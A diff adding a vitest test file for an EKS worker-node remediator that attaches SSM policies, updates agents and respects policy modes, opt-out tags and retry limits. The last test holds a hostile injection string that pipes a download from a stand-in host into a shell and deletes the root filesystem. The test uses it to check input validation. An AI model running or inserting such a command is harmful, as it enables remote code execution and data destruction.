@@ -1,0 +1,120 @@
+import { describe, expect, it } from 'vitest';
+import { sample as coverage } from '../events/inspector-coverage.ts';
+import { deadLetterCount, playThrough } from './harness.ts';
+import { changes, launch, ours, outcomes, RELEASES } from './ssm-agent.fixture.ts';
+
+describe('policy and tags', () => {
+  it.each([
+    ['observe', { ssmAgent: { mode: 'observe' } }, 'would-act would-remedy'],
+    ['off', { ssmAgent: { mode: 'off' } }, 'skipped mode-off'],
+    ['kill switch', { killSwitch: true }, 'skipped kill-switch'],
+    ['unknown key', { ssmAgents: {} }, 'refused policy-invalid'],
+  ])('%s: nothing is changed, and that is recorded once', async (_what, policy, last) => {
+    const run = await playThrough({ ...launch('nodeGroup', { managedPolicy: false }), policy });
+    expect(outcomes(run).at(-1)).toBe(last);
+    expect(outcomes(run).filter((line) => line === last)).toHaveLength(1);
+    expect(changes(run)).toEqual([]);
+  });
+
+  it('Default Host Management cures a missing profile where the policy allows it', async () => {
+    const run = await playThrough({
+      ...launch('nodeGroup', { instanceProfile: false }),
+      policy: { ssmAgent: { remedies: { defaultHostManagement: 'enforce' } } },
+    });
+    expect(changes(run)).toEqual(['ssm UpdateServiceSetting']);
+    expect(outcomes(run).at(-1)).toBe('done agent-cured');
+  });
+
+  it('an opted-out cluster is left alone', async () => {
+    const tags = { 'eks-host-remediator:ignore': 'true' };
+    const run = await playThrough(launch('nodeGroup', { managedPolicy: false }, { tags }));
+    expect(outcomes(run).at(-1)).toBe('skipped opted-out');
+    expect(changes(run)).toEqual([]);
+  });
+});
+
+it('a role that has its rights from an older policy of AWS gets none besides: the network is what is missing', async () => {
+  const ssm = { managedPolicy: false, otherPolicy: 'AmazonEC2RoleforSSM', network: 'none' };
+  const run = await playThrough(launch('nodeGroup', ssm));
+  expect(outcomes(run)).toEqual(['waiting agent-not-yet-registered', 'failed no-network-path']);
+  expect(changes(run)).toEqual([]);
+});
+
+it('what is wrong besides the cause that is cured is told at once', async () => {
+  const run = await playThrough({ ...launch('nodeGroup', { managedPolicy: false, network: 'none' }), play: '3h' });
+  const begun = ours(run).find(({ reason }) => reason === 'policy-attached');
+  expect(begun?.message).toMatch(/Also: No way to Systems Manager is found: subnet subnet-\w+ has no default route/);
+  expect(outcomes(run).slice(-2)).toEqual(['failed role-lacks-ssm', 'failed no-network-path']);
+});
+
+describe('an old agent', () => {
+  it.each([
+    ['opted out', { tags: { 'eks-host-remediator:ignore': 'true' } }, {}, 'opted out by its tag'],
+    ['is out of scope', {}, { scope: { clusters: ['other'] } }, 'The scope leaves out shop'],
+  ])('whose cluster %s is not updated, and that is recorded once', async (_what, cluster, policy, why) => {
+    const run = await playThrough({ ...launch('nodeGroup', { latest: false }, cluster), policy, play: '3h' });
+    expect(outcomes(run)).toEqual(['done agent-verified']);
+    expect(ours(run)[0]?.message).toContain(why);
+    expect(changes(run)).toEqual([]);
+  });
+});
+
+describe('an update of the agent', () => {
+  it('in mode observe is proposed, once', async () => {
+    const policy = { ssmAgent: { mode: 'observe' } };
+    const run = await playThrough({ ...launch('nodeGroup', { latest: false }), policy, play: '3h' });
+    expect(outcomes(run)).toEqual(['would-act would-remedy']);
+    expect(changes(run)).toEqual([]);
+  });
+
+  it('that fails is tried as often as the policy allows, and its incident is never closed', async () => {
+    const run = await playThrough({
+      ...launch('nodeGroup', { latest: false, commands: { updateFails: 'Failed', times: 9 } }),
+      policy: { ssmAgent: { retryAfter: '15m', attempts: 2 } },
+      play: '3h',
+    });
+    expect(outcomes(run).filter((line) => line !== 'waiting retry-later')).toEqual([
+      'acted agent-update-started',
+      'failed agent-update-failed',
+      'acted agent-update-started',
+      'failed agent-update-failed',
+      'failed attempts-exhausted',
+    ]);
+    expect(new Set(ours(run).map(({ correlationId }) => correlationId)).size).toBe(1);
+  });
+});
+
+describe('hints', () => {
+  it('the sweep finds a worker that no event told of, and Auto Mode is skipped', async () => {
+    const fleet = {
+      startsAt: '2026-07-20T00:05:00Z',
+      releases: [RELEASES],
+      clusters: [
+        {
+          name: 'shop',
+          version: '1.33',
+          autoMode: { instances: 1 },
+          nodeGroups: [{ name: 'g', desiredSize: 1, ssm: { managedPolicy: false } }],
+        },
+      ],
+    };
+    const run = await playThrough({ fleet, play: '2h' });
+    expect(outcomes(run).sort()).toEqual(['acted policy-attached', 'done agent-cured', 'skipped auto-mode'].sort());
+  });
+
+  it('an instance that is no worker, look-alike tags or not, costs no record and no act', async () => {
+    const event = { ...coverage, resources: ['i-0123456789abcdef0'] };
+    const run = await playThrough({ ...launch('nodeGroup', {}), events: [{ after: 0, event }] });
+    expect(outcomes(run)).toEqual(['done agent-verified']);
+    expect(deadLetterCount(run)).toBe(0);
+  });
+
+  it('a text that is no instance id goes to the dead-letter queue, and reaches nothing else', async () => {
+    const hostile = '$(curl evil.example|sh)"; rm -rf / #';
+    const event = { ...coverage, resources: [hostile] };
+    const run = await playThrough({ ...launch('nodeGroup', {}), events: [{ after: 0, event }] });
+    expect(deadLetterCount(run)).toBe(1);
+    expect(JSON.stringify(run.calls.filter(({ service }) => service !== 'sqs'))).not.toContain('evil.example');
+    expect(run.records.find(({ reason }) => reason === 'invalid-event')?.message).toContain('resources.0');
+  });
+});
